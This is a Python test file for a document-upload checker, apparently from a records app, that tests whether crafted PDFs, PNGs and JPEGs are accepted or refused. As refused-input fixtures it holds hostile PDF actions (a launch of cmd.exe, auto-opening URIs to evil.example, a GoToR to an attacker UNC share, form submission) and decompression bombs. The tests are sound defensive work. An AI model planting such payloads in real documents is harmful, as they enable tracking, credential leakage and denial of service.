"""The upload checks on real files made by tests/crafted_files.py: a small PDF, JPEG and PNG
pass; a lie about the type, an oversized file, a PNG bomb, a PDF whose stream inflates past
the cap and a PDF with a script are refused, each with its reason, and nothing is stored."""

from __future__ import annotations

import base64
import tracemalloc
from dataclasses import replace
from uuid import uuid4

import pytest

from adapters.document_files import DocumentFiles
from adapters.keys import rotating_cipher
from adapters.settings import ConfigError, Settings
from integrations.documents.content import check_content
from integrations.documents.errors import (
    ActiveContentError,
    DamagedDocumentError,
    DecompressionBombError,
    DocumentRefusedError,
    DocumentTooComplexError,
    DocumentTooLargeError,
    SealedFileMismatchError,
    TypeMismatchError,
    UnsupportedTypeError,
)
from integrations.documents.limits import ContentLimits
from integrations.documents.store import InMemoryFileStore
from tests import crafted_files as crafted

LIMITS = ContentLimits(max_bytes=2 * 1024 * 1024, max_pixels=4_000_000, max_inflated=1024 * 1024)


@pytest.mark.parametrize(
    ("data", "declared", "name", "media_type"),
    [
        (crafted.page_pdf(), "application/pdf", "结婚证.pdf", "application/pdf"),
        (crafted.jpeg(), "image/jpeg", "户口簿.jpg", "image/jpeg"),
        (crafted.jpeg(), "image/jpg", "photo.JPEG", "image/jpeg"),  # an old browser's name
        (crafted.png(), "image/png; charset=binary", "scan.png", "image/png"),
        (crafted.png(), "image/png", "scan", "image/png"),  # no extension: the content decides
    ],
)
def test_a_real_pdf_jpeg_or_png_is_accepted_by_its_content(
    data: bytes, declared: str, name: str, media_type: str
) -> None:
    assert check_content(data, declared, name, LIMITS) == media_type


def refused(
    data: bytes, declared: str, name: str, limits: ContentLimits = LIMITS
) -> DocumentRefusedError:
    """The check refuses the file, and a store behind it keeps nothing."""
    store = InMemoryFileStore()
    files = DocumentFiles(store, limits)
    with pytest.raises(DocumentRefusedError) as caught:
        files.upload(uuid4(), data, declared, name)
    assert store.count() == 0
    return caught.value


def test_a_png_declared_or_named_as_a_pdf_is_refused() -> None:
    declared = refused(crafted.png(), "application/pdf", "证明.pdf")
    assert isinstance(declared, TypeMismatchError)
    assert "image/png" in str(declared)
    renamed = refused(crafted.png(), "image/png", "证明.pdf")
    assert isinstance(renamed, TypeMismatchError)
    assert ".pdf" in str(renamed)


def test_a_file_of_another_type_is_refused_whatever_it_is_called() -> None:
    text = refused(b"%!PS-Adobe-3.0\nshowpage\n", "application/pdf", "a.pdf")
    assert isinstance(text, UnsupportedTypeError)
    gif = refused(b"GIF89a" + b"\x00" * 64, "image/gif", "a.gif")
    assert isinstance(gif, UnsupportedTypeError)
    assert gif.context["found"] == "image/gif"


def test_an_oversized_file_is_refused() -> None:
    big = crafted.page_pdf() + b"%" + b"x" * LIMITS.max_bytes
    too_large = refused(big, "application/pdf", "big.pdf")
    assert isinstance(too_large, DocumentTooLargeError)
    assert too_large.context["max_bytes"] == LIMITS.max_bytes


def test_a_png_decompression_bomb_is_refused_before_it_is_decoded() -> None:
    bomb = crafted.png_bomb(30_000)  # ~110 KB on the wire, 900 million pixels (112 MB)
    assert len(bomb) < 200 * 1024
    huge = refused(bomb, "image/png", "bomb.png")
    assert isinstance(huge, DecompressionBombError)
    # one under Pillow's own guard but over ours: refused by the header's size alone
    over = refused(crafted.png_bomb(3000), "image/png", "wide.png")
    assert isinstance(over, DecompressionBombError)
    assert (over.context["width"], over.context["height"]) == (3000, 3000)


def test_a_pdf_whose_stream_inflates_past_the_cap_is_refused() -> None:
    bomb = crafted.pdf_bomb(32 * 1024 * 1024)  # ~32 KB that inflate to 32 MB
    assert len(bomb) < LIMITS.max_bytes
    inflated = refused(bomb, "application/pdf", "bomb.pdf")
    assert isinstance(inflated, DecompressionBombError)
    assert "inflate" in str(inflated)
    # the same file is fine under a cap above what it inflates to
    small = crafted.pdf_bomb(200_000)
    assert check_content(small, "application/pdf", "ok.pdf", LIMITS) == "application/pdf"


def test_a_pdf_with_a_script_or_a_launch_action_is_refused() -> None:
    script = refused(crafted.pdf_with_javascript(), "application/pdf", "notice.pdf")
    assert isinstance(script, ActiveContentError)
    only_escaped_name = crafted.page_pdf(catalog_extra=b"/OpenAction << /S /J#61vaScript >> ")
    escaped = refused(only_escaped_name, "application/pdf", "notice.pdf")
    assert escaped.context["found"] == "/JavaScript"
    launch = crafted.page_pdf(catalog_extra=b"/OpenAction << /S /Launch /F (cmd.exe) >> ")
    assert refused(launch, "application/pdf", "x.pdf").context["found"] == "/Launch"


def test_a_damaged_image_or_pdf_is_refused() -> None:
    assert isinstance(refused(crafted.png()[:60], "image/png", "a.png"), DamagedDocumentError)
    assert isinstance(refused(crafted.jpeg()[:100], "image/jpeg", "a.jpg"), DamagedDocumentError)
    cut = crafted.page_pdf()[:200]
    assert isinstance(refused(cut, "application/pdf", "a.pdf"), DamagedDocumentError)
    assert isinstance(refused(b"", "application/pdf", "a.pdf"), DamagedDocumentError)


def test_a_stored_document_is_kept_once_by_its_keyed_hash() -> None:
    store = InMemoryFileStore()
    case_id, pdf = uuid4(), crafted.page_pdf()
    keyed = DocumentFiles(store, LIMITS, id_key=b"k" * 32)
    first = keyed.upload(case_id, pdf, "application/pdf", "C:\\fakepath\\结婚证.pdf")
    again = keyed.upload(case_id, pdf, "application/pdf", "another name.pdf")
    assert first == again
    assert first["name"] == "结婚证.pdf"
    assert first["type"] == "application/pdf"
    assert first["size"] == len(pdf)
    assert first["id"].startswith("doc:")
    assert first["sha256"] not in first["id"]  # keyed: a guess cannot be confirmed by hashing
    assert store.count() == 1
    plain = DocumentFiles(InMemoryFileStore(), LIMITS)
    assert plain.upload(case_id, pdf, "application/pdf", "a.pdf")["id"] == "doc:" + first["sha256"]
    opened = keyed.open(case_id, first["id"])
    assert opened is not None
    assert (opened.media_type, opened.content) == ("application/pdf", pdf)
    assert keyed.open(uuid4(), first["id"]) is None  # another case's: not there


def test_the_limits_come_from_the_environment_with_clear_errors() -> None:
    settings = Settings.from_env(
        {"NEWBORN_LEDGER_DOCUMENT_MAX_BYTES": "2048", "NEWBORN_LEDGER_DOCUMENT_MAX_PIXELS": "99"}
    )
    assert settings.documents == ContentLimits(max_bytes=2048, max_pixels=99)
    assert Settings().documents == ContentLimits()  # 10 MiB, 40 million pixels, 64 MiB
    with pytest.raises(ConfigError, match="NEWBORN_LEDGER_DOCUMENT_MAX_BYTES must be between"):
        Settings.from_env({"NEWBORN_LEDGER_DOCUMENT_MAX_BYTES": "100"})
    with pytest.raises(ConfigError, match="DOCUMENT_MAX_INFLATED must be a whole number"):
        Settings.from_env({"NEWBORN_LEDGER_DOCUMENT_MAX_INFLATED": "lots"})
    checks = Settings.from_env(
        {
            "NEWBORN_LEDGER_DOCUMENT_MAX_OBJECTS": "500",
            "NEWBORN_LEDGER_DOCUMENT_CHECK_SECONDS": "2",
            "NEWBORN_LEDGER_DOCUMENT_CHECKS": "3",
        }
    )
    assert (checks.documents.max_objects, checks.documents.max_seconds) == (500, 2.0)
    assert checks.document_checks == 3
    with pytest.raises(ConfigError, match="DOCUMENT_CHECK_SECONDS must be more than 0"):
        Settings.from_env({"NEWBORN_LEDGER_DOCUMENT_CHECK_SECONDS": "0"})
    with pytest.raises(ConfigError, match="DOCUMENT_CHECKS must be between 1 and 64"):
        Settings.from_env({"NEWBORN_LEDGER_DOCUMENT_CHECKS": "0"})


def test_a_script_the_cross_reference_leaves_out_is_found_and_refused() -> None:
    # the catalog's /OpenAction is 4 0 R, in the body but not in the xref: pypdf (and a
    # viewer) find it by searching the file, so the check must as well
    hidden = refused(crafted.pdf_with_unlisted_script(), "application/pdf", "notice.pdf")
    assert isinstance(hidden, ActiveContentError)
    # nothing refers to it and the xref leaves it out: found in the file's bytes
    orphan = refused(crafted.pdf_with_orphan_script(), "application/pdf", "notice.pdf")
    assert isinstance(orphan, ActiveContentError)


@pytest.mark.parametrize(
    ("extra", "found"),
    [
        (b"/OpenAction << /S /URI /URI (https://evil.example/track) >> ", "/URI"),
        (b"/AA << /WC << /S /URI /URI (http://x.example/) >> >> ", "/URI"),
        (b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (u) >> >> ", "/URI"),
        (
            b"/OpenAction << /S /SubmitForm /F << /FS /URL /F (https://x.example) >> >> ",
            "/SubmitForm",
        ),
        (
            b"/OpenAction << /S /GoToR /F (\\\\\\\\attacker\\\\share\\\\a.pdf) /D [0 /Fit] >> ",
            "/GoToR",
        ),
        (b"/OpenAction << /S /GoToE /T << /R /C /N (a) >> >> ", "/GoToE"),
        (b"/OpenAction << /S /ImportData /F (data.fdf) >> ", "/ImportData"),
        (b"/Names << /X << /S /Movie /T (m) >> >> ", "/Movie"),
        (b"/Names << /X << /S /Sound /Sound 9 0 R >> >> ", "/Sound"),
        (b"/Names << /X << /S /Rendition /OP 0 >> >> ", "/Rendition"),
    ],
)
def test_actions_that_send_or_fetch_data_or_open_links_by_themselves_are_refused(
    extra: bytes, found: str
) -> None:
    action = refused(crafted.page_pdf(catalog_extra=extra), "application/pdf", "x.pdf")
    assert isinstance(action, ActiveContentError)
    assert action.context["found"] == found


def test_a_link_the_reader_clicks_is_accepted() -> None:
    link = b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://a.cn) >> >>"
    data = crafted.pdf(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [4 0 R] >>",
        link,
    )
    assert check_content(data, "application/pdf", "a.pdf", LIMITS) == "application/pdf"


def test_a_pdf_of_too_many_objects_or_too_slow_to_check_is_refused() -> None:
    many = refused(crafted.pdf_with_many_objects(10_001), "application/pdf", "many.pdf")
    assert isinstance(many, DocumentTooComplexError)
    assert "10000 objects" in str(many)
    assert ContentLimits().max_objects == 10_000
    fine = crafted.pdf_with_many_objects(200)
    assert check_content(fine, "application/pdf", "a.pdf", LIMITS) == "application/pdf"
    hasty = ContentLimits(max_seconds=1e-9)
    slow = refused(fine, "application/pdf", "a.pdf", hasty)
    assert isinstance(slow, DocumentTooComplexError)
    assert "to check" in str(slow)


def test_a_stream_with_an_unknown_filter_or_any_decoder_failure_is_damaged() -> None:
    unknown = refused(crafted.pdf_with_unknown_filter(), "application/pdf", "a.pdf")
    assert isinstance(unknown, DamagedDocumentError)
    assert "NotImplementedError" in str(unknown)


def test_an_image_decoder_failure_of_any_kind_is_damaged(monkeypatch: pytest.MonkeyPatch) -> None:
    def broken(self: object) -> None:
        raise NotImplementedError("a codec Pillow lacks")

    monkeypatch.setattr("PIL.ImageFile.ImageFile.load", broken)
    damaged = refused(crafted.png(), "image/png", "a.png")
    assert isinstance(damaged, DamagedDocumentError)


def test_inflating_a_pdf_keeps_no_decoded_stream_in_memory() -> None:
    limits = ContentLimits(max_inflated=64 * 1024 * 1024)
    data = crafted.pdf_bomb(60 * 1024 * 1024)  # ~60 KB that inflate to 60 MB: under the cap
    tracemalloc.start()
    try:
        assert check_content(data, "application/pdf", "a.pdf", limits) == "application/pdf"
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 4 * 1024 * 1024  # was 127 MB: every decoded stream kept


def test_a_sealed_file_swapped_to_another_row_reads_as_an_error() -> None:
    store = InMemoryFileStore()
    key = base64.b64encode(bytes(range(32))).decode()
    files = DocumentFiles(store, LIMITS, cipher=rotating_cipher(key, ()))
    mine, theirs = uuid4(), uuid4()
    kept = files.upload(mine, crafted.page_pdf(), "application/pdf", "mine.pdf")
    other = files.upload(theirs, crafted.png(), "image/png", "theirs.png")
    opened = files.open(mine, kept["id"])
    assert opened is not None
    assert (opened.name, opened.content) == ("mine.pdf", crafted.page_pdf())
    theirs_row = store.get(str(theirs), other["id"])
    assert theirs_row is not None
    # at rest, their sealed bytes are copied into my row (same store, same key)
    store._rows[(str(mine), kept["id"])] = replace(
        theirs_row, case_id=str(mine), document_id=kept["id"]
    )
    with pytest.raises(SealedFileMismatchError, match=f"document {kept['id']} of case {mine}"):
        files.open(mine, kept["id"])
    with pytest.raises(SealedFileMismatchError, match="stored meta"):
        files.describe(mine, [kept["id"]])
